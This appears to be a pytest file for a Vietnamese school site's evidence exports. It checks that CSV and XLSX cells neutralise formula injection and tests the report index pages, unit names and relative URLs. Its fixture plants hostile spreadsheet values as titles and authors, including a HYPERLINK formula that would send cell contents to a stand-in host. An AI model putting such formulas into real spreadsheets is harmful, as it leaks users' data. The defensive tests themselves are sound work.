"""evidence.csv / evidence.xlsx as staff open them, the reports index page,
unit names across plans and site-root item URLs (issues 12.9, 17.4, 17.8,
17.9, 17.10). One real build of a copy of tests/evidence/data/basic with
hostile titles and authors added."""

import csv
import datetime
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from helpers import build_site, read
from truongweb.plugins.plan_evidence.export import CSV_COLUMNS, XLSX_SHEETS
from truongweb.plugins.spreadsheet import FORMULA_TRIGGERS, Sheet, csv_text, neutralise, xlsx_bytes

DATA = Path(__file__).parent / "data" / "basic"
AS_OF = "2024-05-15"
KEYS = [k for k, _ in CSV_COLUMNS]

HOSTILE = {
    "50-cong-thuc.md": ('=HYPERLINK("https://evil.example/?"&A1;"Bấm vào đây")', "@SUM(1+1)"),
    "51-dau-cong.md": ("+84 tin nhắn cho phụ huynh", "-Ẩn danh"),
}


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("ev-sheets")
    content = tmp / "content"
    shutil.copytree(DATA, content)
    for name, (title, author) in HOSTILE.items():
        (content / "articles" / name).write_text(
            "---\n"
            f"title: {json.dumps(title, ensure_ascii=False)}\n"
            "date: 2024-03-12 08:00\n"
            "category: Tin tức – Sự kiện\n"
            f"author: {json.dumps(author, ensure_ascii=False)}\n"
            "topics: [gdpt-2018]\n"
            "---\nNội dung.\n", encoding="utf-8")
    return build_site(tmp, content=content, EVIDENCE_AS_OF=AS_OF, SITEURL="")


def csv_dicts(output, plan):
    raw = (output / "minh-chung" / plan / "evidence.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    return [dict(zip(KEYS, r)) for r in rows[1:]]


def evidence(output, plan):
    return json.loads(read(output / "minh-chung" / plan / "evidence.json"))


# ---- 12.9: formula injection ------------------------------------------------

@pytest.mark.parametrize("lead", FORMULA_TRIGGERS)
def test_neutralise_prefixes_every_trigger(lead):
    assert neutralise(lead + "1+1") == "'" + lead + "1+1"


def test_neutralise_leaves_ordinary_values():
    for value in ["Tập huấn", "2024-03-05", "/doan-doi/2024/", "https://a.vn/", "'đã có", ""]:
        assert neutralise(value) == value
    assert neutralise(12) == 12 and neutralise(None) is None
    assert neutralise(datetime.date(2024, 1, 1)) == datetime.date(2024, 1, 1)


def test_csv_text_neutralises_cells_and_quotes():
    text = csv_text(["a", "b"], [["=1+1", 'x,"y"'], ["\tTab", None]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows == [["a", "b"], ["'=1+1", 'x,"y"'], ["'\tTab", ""]]


def test_evidence_csv_cells_cannot_run_as_formulas(site):
    rows = {r["title"]: r for r in csv_dicts(site, "kh-2024")}
    formula = [t for t in rows if "HYPERLINK" in t]
    assert formula == ["'" + HOSTILE["50-cong-thuc.md"][0]]
    assert rows[formula[0]]["author"] == "'@SUM(1+1)"
    assert rows["'+84 tin nhắn cho phụ huynh"]["author"] == "'-Ẩn danh"
    for row in rows.values():
        for key, value in row.items():
            assert not value.startswith(FORMULA_TRIGGERS), (key, value)
    # evidence.json is data for programs: it keeps the text as written
    titles = [i["title"] for i in evidence(site, "kh-2024")["items"]]
    assert HOSTILE["50-cong-thuc.md"][0] in titles and "+84 tin nhắn cho phụ huynh" in titles


# ---- 17.9: evidence.xlsx -----------------------------------------------------

def test_xlsx_bytes_types_and_layout():
    sheet = Sheet("Minh chứng", ["Ngày", "Tiêu đề", "Số bài"],
                  [[datetime.date(2024, 3, 5), "=1+1", 3], [datetime.date(2024, 4, 1), "\x07Bài\x01", 0]])
    data = xlsx_bytes([sheet], stamp=datetime.datetime(2024, 5, 15))
    assert data == xlsx_bytes([sheet], stamp=datetime.datetime(2024, 5, 15))  # reproducible
    ws = load_workbook(io.BytesIO(data))["Minh chứng"]
    assert ws["A2"].value == datetime.datetime(2024, 3, 5) and ws["A2"].is_date
    assert ws["A2"].number_format == "DD/MM/YYYY"
    assert ws["B2"].value == "=1+1" and ws["B2"].data_type == "s" and ws["B2"].quotePrefix
    assert ws["B3"].value == "Bài"  # characters XML cannot hold are dropped, not a crash
    assert ws["C2"].value == 3 and ws["C2"].data_type == "n"
    assert ws["A1"].font.bold and ws.freeze_panes == "A2"
    assert 8 <= ws.column_dimensions["B"].width <= 60
    with zipfile.ZipFile(io.BytesIO(data)) as z:  # not the time of saving
        assert b"<dcterms:modified xsi:type=\"dcterms:W3CDTF\">2024-05-15T00:00:00Z<" in z.read("docProps/core.xml")


def test_xlsx_cache_is_reused_while_the_data_is_the_same(tmp_path):
    cache = tmp_path / "cache" / "kh.xlsx"
    sheet = Sheet("Kết quả", ["Nội dung", "Số bài"], [["A", 1]])
    stamp = datetime.datetime(2024, 5, 15)
    first = xlsx_bytes([sheet], stamp=stamp, cache=cache)
    assert cache.read_bytes() == first and cache.with_suffix(".key").is_file()
    cache.write_bytes(b"marker")  # the same key: the cached file is returned as is
    assert xlsx_bytes([sheet], stamp=stamp, cache=cache) == b"marker"
    changed = xlsx_bytes([Sheet("Kết quả", ["Nội dung", "Số bài"], [["A", 2]])], stamp=stamp, cache=cache)
    assert load_workbook(io.BytesIO(changed))["Kết quả"]["B2"].value == 2
    assert xlsx_bytes([sheet], stamp=datetime.datetime(2024, 5, 16), cache=cache) != changed


def test_evidence_xlsx_reads_back(site):
    path = site / "minh-chung/kh-2024/evidence.xlsx"
    wb = load_workbook(path)
    assert wb.sheetnames == list(XLSX_SHEETS) == ["Minh chứng", "Kết quả", "Theo kỳ"]
    ws = wb["Minh chứng"]
    header = [c.value for c in ws[1]]
    assert header[3] == "Ngày (date)" and all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    rows = [dict(zip(KEYS, (c.value for c in row))) for row in ws.iter_rows(min_row=2)]
    assert len(rows) == len(csv_dicts(site, "kh-2024"))
    first = rows[0]
    assert first["date"] == datetime.datetime(2024, 1, 10)
    assert first["title"] == "Tập huấn chương trình mới" and first["unit_name"] == "Tổ Ngữ văn"
    assert first["url"] == "/tin-tuc-su-kien/2024/01/tap-huan-chuong-trinh-moi/"
    # hostile text is a string cell with the raw text, never a formula
    cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    bad = cells[HOSTILE["50-cong-thuc.md"][0]]
    assert bad.data_type == "s" and bad.quotePrefix
    assert cells["@SUM(1+1)"].data_type == "s"
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", c.coordinate
    # results: counts are numbers
    summary = wb["Kết quả"]
    assert [c.value for c in summary[1]] == ["Loại", "Mã", "Nội dung", "Nhóm", "Chỉ tiêu", "Số bài", "Đánh giá"]
    by_code = {r[1].value: r for r in summary.iter_rows(min_row=2)}
    doc = evidence(site, "kh-2024")
    assert summary["A2"].value == "Toàn kế hoạch" and summary["F2"].value == doc["total"]["count"]
    assert by_code["gdpt-2018"][5].value == {t["code"]: t for t in doc["topics"]}["gdpt-2018"]["count"]
    assert isinstance(by_code["gdpt-2018"][5].value, int)
    periods = wb["Theo kỳ"]
    q1 = next(r for r in periods.iter_rows(min_row=2) if r[1].value == "gdpt-2018" and r[3].value == "Quý I/2024")
    assert q1[5].value == datetime.datetime(2024, 1, 1) and q1[6].value == datetime.datetime(2024, 3, 31)
    assert isinstance(q1[7].value, int) and q1[8].value == 1 and q1[9].value == "Đạt"
    # a real zip whose entries carry the as-of date, not the build time
    with zipfile.ZipFile(path) as z:
        assert {i.date_time[:3] for i in z.infolist()} == {(2024, 5, 15)}


def test_xlsx_in_libreoffice():
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        pytest.skip("LibreOffice (soffice) is not installed on this machine; "
                    "evidence.xlsx is checked by reading it back with openpyxl")


def test_evidence_pages_link_the_spreadsheet(site):
    for rel in ["minh-chung/kh-2024/index.html", "minh-chung/kh-2024/gdpt-2018/index.html",
                "minh-chung/kh-2024/bao-cao/index.html"]:
        html = read(site / rel)
        assert 'href="/minh-chung/kh-2024/evidence.xlsx" download' in html, rel
        assert "Excel" in html


# ---- 17.8: unit names from any plan -----------------------------------------

def test_unit_name_comes_from_the_plan_that_defines_it(site):
    # nam-hoc-2023-2024 has no units; the January article is tagged to-ngu-van of kh-2024
    rows = [r for r in csv_dicts(site, "nam-hoc-2023-2024") if r["unit"]]
    assert rows and {r["unit"]: r["unit_name"] for r in rows} == {"to-ngu-van": "Tổ Ngữ văn",
                                                                  "doan-doi": "Liên đội"}
    html = read(site / "minh-chung/nam-hoc-2023-2024/gdpt-2018/index.html")
    assert "<td>Tổ Ngữ văn</td>" in html
    ws = load_workbook(site / "minh-chung/nam-hoc-2023-2024/evidence.xlsx")["Minh chứng"]
    names = {row[KEYS.index("unit")].value: row[KEYS.index("unit_name")].value
             for row in ws.iter_rows(min_row=2) if row[KEYS.index("unit")].value}
    assert names == {"to-ngu-van": "Tổ Ngữ văn", "doan-doi": "Liên đội"}


# ---- 17.10: site-root relative URLs without SITEURL --------------------------

def test_item_urls_are_site_root_relative_without_siteurl(site):
    doc = evidence(site, "kh-2024")
    urls = [i["url"] for i in doc["items"]] + [i["url"] for t in doc["topics"] for i in t["items"]]
    assert urls and all(u.startswith("/") and not u.startswith("//") for u in urls), urls
    assert "/tin-tuc-su-kien/2024/01/tap-huan-chuong-trinh-moi/" in urls
    assert all(r["url"].startswith("/") for r in csv_dicts(site, "kh-2024"))
    # the pages link them once, with no doubled slash
    html = read(site / "minh-chung/kh-2024/gdpt-2018/index.html")
    assert 'href="/tin-tuc-su-kien/2024/01/tap-huan-chuong-trinh-moi/"' in html
    assert 'href="//' not in html
    report = read(site / "minh-chung/kh-2024/bao-cao/2024-q1/index.html")
    assert ">/tin-tuc-su-kien/2024/01/tap-huan-chuong-trinh-moi/<" in report


# ---- 17.4: the reports index ------------------------------------------------

def test_reports_index_lists_every_report(site):
    base = site / "minh-chung/kh-2024/bao-cao"
    html = read(base / "index.html")
    assert "<h1>Báo cáo kết quả thực hiện kế hoạch</h1>" in html and 'lang="vi"' in html
    assert "evidence.css" in html
    reports = sorted(p.parent.name for p in base.glob("*/index.html"))
    doc = evidence(site, "kh-2024")
    assert reports == sorted(p["slug"] for p in doc["report_periods"])
    for slug in reports:
        assert f'href="/minh-chung/kh-2024/bao-cao/{slug}/"' in html, slug
    for heading in ["Cả kế hoạch", "Theo học kỳ", "Theo quý", "Theo tháng"]:
        assert f">{heading}</h2>" in html
    # breadcrumb: Trang chủ › Minh chứng › plan › Báo cáo (current)
    crumbs = re.search(r'<nav class="breadcrumb".*?</nav>', html, re.S).group(0)
    assert 'href="/minh-chung/kh-2024/"' in crumbs and '<span aria-current="page">Báo cáo</span>' in crumbs
    # each report's breadcrumb and the plan page lead to it
    report = read(base / "2024-q1/index.html")
    crumbs = re.search(r'<nav class="breadcrumb".*?</nav>', report, re.S).group(0)
    assert 'href="/minh-chung/kh-2024/bao-cao/">Báo cáo</a>' in crumbs
    assert 'href="/minh-chung/kh-2024/bao-cao/"' in read(site / "minh-chung/kh-2024/index.html")


def test_every_template_table_sits_in_a_focusable_named_region(site):
    pages = [site / "minh-chung/index.html", site / "minh-chung/kh-2024/index.html",
             site / "minh-chung/kh-2024/gdpt-2018/index.html", site / "minh-chung/kh-2024/bao-cao/index.html"]
    for page in pages:
        html = read(page)
        tables = re.findall(r"<table class=\"ev-table[^\"]*\"", html)
        regions = re.findall(r'<div class="scroll-region" role="region" tabindex="0" aria-labelledby="([^"]+)">\s*'
                             r'<table class="ev-table', html)
        assert tables and len(regions) == len(tables), page
        for ident in regions:
            assert f'id="{ident}"' in html, (page, ident)
